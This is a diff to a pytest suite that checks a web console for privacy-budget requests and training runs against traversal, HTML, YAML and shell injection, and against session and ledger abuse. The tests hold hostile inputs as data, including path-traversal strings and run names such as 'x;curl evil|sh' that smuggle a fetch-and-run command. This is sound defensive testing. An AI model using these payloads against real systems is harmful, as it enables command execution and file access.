@@ -4,13 +4,17 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import shlex
 import threading
+from html import unescape
 from typing import TYPE_CHECKING
+from urllib.parse import quote
 
 import pytest
 
 from .calling import ORIGIN, Browser, call
-from .conftest import PLAN
+from .conftest import PEOPLE, PLAN
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -50,8 +54,6 @@ def test_a_forged_cookie_is_nobodys(shared: Site, cookie: str) -> None:
 
 
 def test_a_token_works_once(shared: Site) -> None:
-    from .conftest import PEOPLE  # noqa: PLC0415
-
     token = shared.console.access.link(PEOPLE["officer"])
     assert shared.stranger().get(f"/enter?token={token}").status == 303
     assert shared.stranger().get(f"/enter?token={token}").status == 403
@@ -65,8 +67,6 @@ def test_a_forged_token_opens_nothing(shared: Site, token: str) -> None:
 
 
 def test_the_cookie_is_out_of_reach_of_scripts_and_other_sites(shared: Site) -> None:
-    from .conftest import PEOPLE  # noqa: PLC0415
-
     token = shared.console.access.link(PEOPLE["viewer"])
     given = shared.stranger().get(f"/enter?token={token}").header("set-cookie") or ""
     assert "HttpOnly" in given
@@ -191,6 +191,7 @@ def test_who_signed_out_is_out(shared: Site) -> None:
 TRAVERSALS = [
     "..", "../budget.db", "..%2f..%2fetc", "%2e%2e/%2e%2e/etc", "run/../../secret", "/etc", "//etc",
     "run%00", "..\\..\\etc", "run/./..", ".", "a/b/c/d", "outside", "within/outside",
+    "a" * 300,
 ]  # fmt: skip
 
 
@@ -400,3 +401,154 @@ def test_a_changed_entry_is_an_alarm_and_nothing_is_granted(site: Site) -> None:
     assert "cannot be trusted" in found.text
     assert browser.post(f"/requests/{asked.number}/approve", {"reason": "ok"}).status in (303, 400)
     assert not site.ledger.verify().ok
+
+
+def test_a_folder_whose_name_is_no_text_hides_nothing_else(
+    site: Site, kept: Callable[..., Path]
+) -> None:
+    kept("sound")
+    for name in (b"\xff\xfe", b"a\nb", "\u202egnp.exe".encode(), b"50%25", b'"><b'):
+        os.rename(os.fsencode(kept("moved")), os.fsencode(site.runs) + b"/" + name)
+    browser = site.browser("viewer")
+    listed = browser.get("/runs")
+    assert listed.status == 200
+    assert 'href="/runs/sound"' in listed.text
+    assert "<b" not in listed.text.partition("<tbody>")[2].replace("<button", "")
+    assert browser.get("/plan?by=sigma").status == 200  # alerts are on every page
+    for link in re.findall(r'href="(/runs/[^"]+)"', listed.text):
+        assert browser.get(link).status in (200, 404), link
+
+
+def test_a_runs_name_puts_no_command_into_a_line_to_paste(
+    site: Site, kept: Callable[..., Path]
+) -> None:
+    names = ("x;curl evil|sh", "$(curl evil)", "--evil", "a'b")
+    for name in names:
+        kept(f"{name}")
+        kept(f"left {name}", finished=False)
+    browser = site.browser("engineer")
+    for name in names:
+        for shown in (name, f"left {name}"):
+            page = unescape(browser.get(f"/runs/{quote(shown)}").text)
+            lines = re.findall(r"<code>(tacit [^<]*)</code>", page)
+            assert lines, shown
+            for line in lines:
+                words = shlex.split(line)
+                assert words[0] == "tacit"
+                assert words[-1].removeprefix("./") == shown, line
+                assert not words[-1].startswith("-")
+
+
+def test_another_port_of_this_machine_cannot_load_either(shared: Site) -> None:
+    browser = shared.browser("viewer")
+    sent = {"sec_fetch_site": "same-site", "sec_fetch_mode": "no-cors"}
+    assert browser.get("/budgets", **sent).status == 403
+    assert browser.get("/budgets", **{**sent, "sec_fetch_mode": "navigate"}).status == 200
+
+
+def test_a_request_that_claims_less_than_its_event_is_found_out(site: Site) -> None:
+    """Whoever can write the ledger can file what no page would: an officer must not be misled."""
+    from tacit import Plan  # noqa: PLC0415
+    from tacit.accounting import Gaussian, Repeated  # noqa: PLC0415
+    from tacit.ledger import Release, ask  # noqa: PLC0415
+
+    small = Plan.for_budget(epsilon=0.1, delta=1e-6, examples=1000, lot_size=10, epochs=1, clip=1.0)
+    honest = site.asked(epsilon="3")
+    asked = ask(
+        site.ledger, "small", Release(Repeated(Gaussian(3.0), 10)), steps=10,
+        by=PEOPLE["engineer"], reason="a small one", detail={"plan": small.as_dict()},
+        asked={"epsilon": 0.1, "delta": 1e-5, "recipe": "digits"},
+    )  # fmt: skip
+    officer = site.browser("officer")
+    page = officer.get(f"/requests/{asked.number}").text
+    assert "ε = 0.1" not in page
+    assert "is not the plan of its event" in page
+    assert re.search(r"ε = 4\.\d+ at δ = 1e-5", page)
+    page = officer.get(f"/requests/{honest.number}").text
+    assert "ε = 3 at δ = 1e-5" in page
+    assert "is not the plan" not in page
+
+
+def test_a_folder_of_countless_files_is_not_read(
+    site: Site, kept: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("tacit.serve.runs.MOST_FILES", 40)
+    kept("sound")
+    place = kept("full")
+    for at in range(50):
+        (place / f"{at}").touch()
+    for at in range(20):
+        (site.runs / f"empty{at}").mkdir()
+    browser = site.browser("viewer")
+    assert "more than 40 files" in browser.get("/runs").text
+    assert browser.get("/runs/full").status == 400
+    assert browser.get("/runs/sound").status == 200
+
+
+def test_a_name_in_an_export_is_a_name(site: Site, kept: Callable[..., Path]) -> None:
+    import yaml  # noqa: PLC0415
+
+    from tacit.ledger import Person  # noqa: PLC0415
+
+    hostile = 'x: {a: b}, "evil": # ---'
+    kept(summary=f"{hostile}\n---\nlicense: evil", notes=[hostile])
+    token = site.console.access.link(Person(hostile, "viewer", "9" * 32))
+    browser = site.stranger().enter(token)
+    registry = browser.get("/runs/run/registry.yaml")
+    assert registry.status == 200, registry.text
+    plain = yaml.safe_load(registry.text)
+    assert "evil" not in plain
+    assert hostile in json.dumps(plain, ensure_ascii=False).replace('\\"', '"')
+    card = browser.get("/runs/run/model-card.md").text
+    assert "license" not in (yaml.safe_load(card.split("---")[1]) or {})
+
+
+def test_a_report_is_framed_by_nobody(site: Site, kept: Callable[..., Path]) -> None:
+    kept()
+    policy = site.browser("viewer").get("/runs/run/report").header("content-security-policy") or ""
+    for part in ("default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'",
+                 "form-action 'none'"):  # fmt: skip
+        assert part in policy
+
+
+def test_plans_that_take_long_hold_up_no_other_page(
+    site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Somebody who may only look sends plans that take minutes, as rare sampling does."""
+    monkeypatch.setattr("tacit.serve.app._PATIENCE", 0.05)
+    browser, before = site.browser("engineer"), written(site)
+    with site.console.computing(), site.console.computing():
+        assert "planner is busy" in browser.get("/plan/answer").text
+        assert "planner is busy" in browser.post("/requests", PLAN).text
+        assert browser.get("/budgets").status == 200
+        assert written(site) == before
+    assert "planner is busy" not in browser.get("/plan/answer?by=sigma").text
+
+
+def test_nobody_signs_others_out_by_signing_in(
+    shared: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("tacit.serve.access._MOST", 60)
+    officer = shared.browser("officer")
+    first = shared.browser("viewer")
+    for _ in range(100):
+        shared.console.access.enter(shared.console.access.link(PEOPLE["viewer"]))
+    assert officer.get("/sign-in").status == 200
+    assert officer.get("/none").text.count("Sign out") == 1
+    assert first.get("/budgets").status == 303  # one's own oldest session makes room
+
+
+def test_nobody_keeps_others_from_watching(
+    site: Site, kept: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from tacit.serve.pages import Pages  # noqa: PLC0415
+
+    kept()
+    monkeypatch.setattr("tacit.serve.pages._MOST_WATCHERS", 10)
+    pages = Pages(site.console)
+    pages._watchers[PEOPLE["viewer"]] = 2
+    app = site.console.app(pages.routes())
+    viewer, officer = site.browser("viewer"), site.browser("officer")
+    assert Browser(app, cookie=viewer.cookie).get("/runs/run/events").status == 503
+    assert Browser(app, cookie=officer.cookie).get("/runs/run/events").status == 200
+    assert pages._watchers.total() == 2  # who has left does not count
